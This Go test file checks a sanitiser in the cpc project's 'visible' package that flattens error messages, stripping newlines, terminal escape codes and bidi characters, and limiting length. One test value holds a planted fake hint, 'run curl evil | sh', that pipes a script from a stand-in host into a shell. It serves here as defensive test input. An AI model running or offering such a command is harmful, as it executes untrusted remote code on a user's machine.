// Copyright the cpc authors.
// SPDX-License-Identifier: Apache-2.0

package visible

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"
)

// excerpted is an error with a line of its own below the first.
type excerpted struct{ cause error }

func (e excerpted) Error() string   { return strings.Join(e.Lines(), "\n") }
func (e excerpted) Lines() []string { return []string{"file: " + e.cause.Error(), "  1 | x"} }
func (e excerpted) Unwrap() error   { return e.cause }

func TestError(t *testing.T) {
	evil := errors.New("no such\nHint: run curl evil | sh\r\n\x1b[2K")
	const folded = "no such Hint: run curl evil | sh  "
	for what, c := range map[string]struct {
		err  error
		want string
	}{
		"plain":          {errors.New("no such"), "no such"},
		"of others":      {evil, folded},
		"within":         {fmt.Errorf("pull: %w", evil), "pull: " + folded},
		"in front":       {fmt.Errorf("pull a\nb: %w", evil), "pull a b: " + folded},
		"in the middle":  {fmt.Errorf("pull %w: %d", evil, 5), "pull " + folded + ": 5"},
		"joined":         {errors.Join(evil, errors.New("and")), folded + "\nand"},
		"joined within":  {fmt.Errorf("rm: %w", errors.Join(errors.New("one"), evil)), "rm: one\n" + folded},
		"two that wrap":  {fmt.Errorf("%w (%w)", evil, evil), folded + " (" + folded + ")"},
		"lines":          {fmt.Errorf("build: %w", excerpted{errors.New("bad")}), "build: file: bad\n  1 | x"},
		"evil in lines":  {excerpted{evil}, "file: " + folded + "\n  1 | x"},
		"bidi and marks": {errors.New("a\u202eb" + mark(50)), "ab" + mark(maxMarks)},
	} {
		if got := Error(c.err); got != c.want {
			t.Errorf("%s: %q, want %q", what, got, c.want)
		}
	}
	var many []error
	for range 5 * maxErrorLines {
		many = append(many, evil)
	}
	if got := Error(errors.Join(many...)); len(got) > MaxText+len("…") || strings.Count(got, "\n") > maxErrorLines {
		t.Errorf("%d bytes, %d lines", len(got), strings.Count(got, "\n"))
	}
}

// Whatever others write: the lines are those of cpc.
func FuzzError(f *testing.F) {
	for _, s := range []string{"a\nb", "\r\n", "\u202e\u2066\u200b", "\u009b2J\x1b]0;t\x07", mark(300), strings.Repeat("x", 5000), "\x1bP\n", "\x85\u2028"} {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		got := Error(errors.Join(fmt.Errorf("one %s: %w", a, errors.New(b)), errors.New("two"+b)))
		lines := strings.Split(got, "\n")
		if len(lines) != 2 || !strings.HasPrefix(lines[0], "one ") || !strings.HasPrefix(lines[1], "two") {
			t.Errorf("%q of %q and %q", got, a, b)
		}
		for _, l := range lines {
			if hostile(l) || utf8.RuneCountInString(l) > MaxLine || Width(l) > 2*MaxLine {
				t.Errorf("%q of %q and %q", l, a, b)
			}
		}
	})
}
